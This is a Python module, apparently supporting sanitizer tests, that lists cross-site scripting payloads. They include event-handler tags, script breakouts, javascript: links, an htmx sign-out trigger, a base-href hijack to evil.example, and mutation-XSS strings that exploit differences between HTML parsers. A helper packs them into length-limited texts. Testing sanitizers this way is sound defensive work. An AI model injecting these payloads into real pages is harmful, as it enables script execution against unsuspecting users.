"""Words that would be run by a page that takes them for HTML, and texts packed with them."""

from collections.abc import Iterable, Iterator

_TAGS = ["img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "a tabindex=0", "p", "math"]
_HANDLERS = ["onerror", "onload", "ontoggle", "onfocus", "onanimationstart"]
PAYLOADS = [f"<{tag} {handler}=alert(1)>" for tag in _TAGS for handler in _HANDLERS] + [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    '"><script>alert(1)</script>',
    "'\" autofocus onfocus=alert(1) x='",
    "<p hx-get=/sign-out/ hx-trigger=load>",
    "<p data-hx-on:load=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "{{ 7*7 }}<style>@import 'javascript:alert(1)'</style>",
]

# What one reader of HTML takes for words and the next one for a script. Each goes alone: in one text with others, what
# it leaves open would hide them, or they it.
ALONE = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">',
    '<svg><style><a title="</style><img src=x onerror=alert(1)>"></svg>',
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></math>',
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></foreignObject></svg>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml ><img src=x onerror=alert(1)> ?>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<p title='&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;'>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<<img src=x onerror=alert(1)//",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#14;javascript:alert(1)'>x</a>",
]


def texts(most: int) -> list[str]:
    """Every attempt that is no longer than `most`, as few texts of that length as hold them all."""
    return list(_packed((words for words in PAYLOADS if len(words) <= most), most))


def _packed(words: Iterable[str], most: int) -> Iterator[str]:
    text = ""
    for word in words:
        if len(text) + len(word) > most:
            yield text
            text = ""
        text += word
    yield text
